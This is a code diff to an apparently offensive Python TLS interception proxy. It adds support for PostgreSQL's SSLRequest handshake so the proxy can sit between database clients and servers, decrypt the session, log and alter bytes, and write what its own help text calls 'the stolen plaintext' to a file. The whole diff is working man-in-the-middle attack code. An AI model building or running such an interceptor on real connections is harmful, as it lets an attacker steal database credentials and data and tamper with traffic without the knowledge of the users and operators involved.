@@ -12,6 +12,9 @@ import ssl
 import common
 
 
+SSL_REQUEST = bytes.fromhex("0000000804d2162f")  # PostgreSQL's wish for TLS, answered with one letter
+
+
 class Interceptor:
     def __init__(self, options):
         self.options = options
@@ -40,20 +43,38 @@ class Interceptor:
                 common.say(event="altered", bytes=len(new))
         return data
 
+    async def ask_for_tls(self, reader, writer):
+        """What a client of PostgreSQL says before TLS."""
+        if await reader.readexactly(8) != SSL_REQUEST:
+            raise OSError("the client does not ask for TLS")
+        writer.write(b"S")
+
+    async def connect(self, host, port):
+        name = self.options.name if self.onward else None
+        if not self.options.postgres:
+            return await asyncio.open_connection(host, port, ssl=self.onward, server_hostname=name)
+        reader, writer = await asyncio.open_connection(host, port)
+        writer.write(SSL_REQUEST)
+        if await reader.readexactly(1) != b"S":
+            raise OSError("the server has no TLS")
+        await writer.start_tls(self.onward, server_hostname=name)
+        return reader, writer
+
     async def handle(self, reader, writer):
         host, port = common.destination(writer, self.options.to)
         common.say(event="connection", to=f"{host}:{port}")
         try:
+            if self.options.postgres:
+                await self.ask_for_tls(reader, writer)
             if self.inward:
                 await writer.start_tls(self.inward)
-        except (ssl.SSLError, OSError) as error:
+        except (ssl.SSLError, OSError, EOFError) as error:
             common.say(event="refused", by="client", error=str(error))
             writer.close()
             return
         try:
-            up_reader, up_writer = await asyncio.open_connection(
-                host, port, ssl=self.onward, server_hostname=self.options.name if self.onward else None)
-        except (ssl.SSLError, OSError) as error:
+            up_reader, up_writer = await self.connect(host, port)
+        except (ssl.SSLError, OSError, EOFError) as error:
             common.say(event="refused", by="server", error=str(error))
             writer.close()
             return
@@ -70,6 +91,7 @@ def main():
     parser.add_argument("--key")
     parser.add_argument("--name", help="the name to ask the real server for")
     parser.add_argument("--record", required=True, help="where the stolen plaintext goes")
+    parser.add_argument("--postgres", action="store_true", help="TLS begins after PostgreSQL's SSLRequest")
     parser.add_argument("--to", help="HOST:PORT instead of the connection's own destination")
     parser.add_argument("--family", type=int, default=4)
     parser.add_argument("--plain-in", action="store_true", help="no TLS towards the client")
